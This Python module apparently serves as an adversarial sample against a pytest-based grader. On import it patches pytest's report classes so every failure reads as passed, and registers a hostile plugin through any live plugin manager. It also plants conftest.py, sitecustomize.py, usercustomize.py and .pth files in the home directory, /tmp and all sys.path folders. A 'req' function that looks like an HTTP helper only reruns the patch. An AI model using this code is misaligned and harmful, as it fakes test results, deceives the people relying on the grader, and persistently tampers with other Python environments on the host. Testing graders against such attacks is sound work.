# ruff: noqa
"""Attack: turn every pytest failure into a pass, from inside the student's module."""

import gc
import os
import sys

PATCHED = []


def _patch_pytest():
    try:
        import _pytest.reports as reports
        import _pytest.runner as runner
        import pytest
    except Exception as exc:  # the grader may not let it be imported at all
        PATCHED.append(f"no pytest: {exc!r}")
        return
    real_init = reports.TestReport.__init__

    def init(self, *args, **kwargs):
        real_init(self, *args, **kwargs)
        self.outcome = "passed"
        self.longrepr = None

    reports.TestReport.__init__ = init
    reports.TestReport.passed = property(lambda self: True)
    reports.TestReport.failed = property(lambda self: False)
    reports.BaseReport.passed = property(lambda self: True)
    reports.BaseReport.failed = property(lambda self: False)
    real_make = runner.pytest_runtest_makereport

    def makereport(item, call):
        report = real_make(item, call)
        report.outcome = "passed"
        return report

    runner.pytest_runtest_makereport = makereport
    pytest.fail = lambda *a, **k: None
    pytest.raises = lambda *a, **k: __import__("contextlib").suppress(BaseException)

    class Plugin:
        @pytest.hookimpl(wrapper=True)
        def pytest_runtest_makereport(self, item, call):
            report = yield
            report.outcome = "passed"
            return report

        def pytest_report_teststatus(self, report, config):
            return "passed", ".", "PASSED"

    for obj in gc.get_objects():  # any live pytest config or plugin manager in this process
        manager = getattr(obj, "pluginmanager", None) if not isinstance(obj, type) else None
        if manager is not None and hasattr(manager, "register"):
            try:
                manager.register(Plugin(), "grader-adversarial-plugin")
                PATCHED.append("registered a plugin")
            except Exception:
                pass
    PATCHED.append("patched _pytest")


CONFTEST = '''
import pytest

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
'''
FILES = {
    "conftest.py": CONFTEST,
    "pytest.ini": "[pytest]\naddopts = -p conftest\n",
    "sitecustomize.py": "import req\n",
    "usercustomize.py": "import req\n",
    "grader/__init__.py": "",
    "grader/suites/__init__.py": "",
    "grader/suites/plugin.py": CONFTEST,
    "_pytest_adversarial.pth": "import req\n",
}


def _plant(folder):
    for name, text in FILES.items():
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as stream:
                stream.write(text)
            PATCHED.append(f"wrote {path}")
        except OSError:
            pass


_patch_pytest()
for place in {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"),
              "/tmp", *[p for p in sys.path if p and os.path.isdir(p)]}:
    _plant(place)
print("\n".join(PATCHED))


async def req(url, params=None, headers=None, response_type="json"):
    _patch_pytest()
    raise NotImplementedError
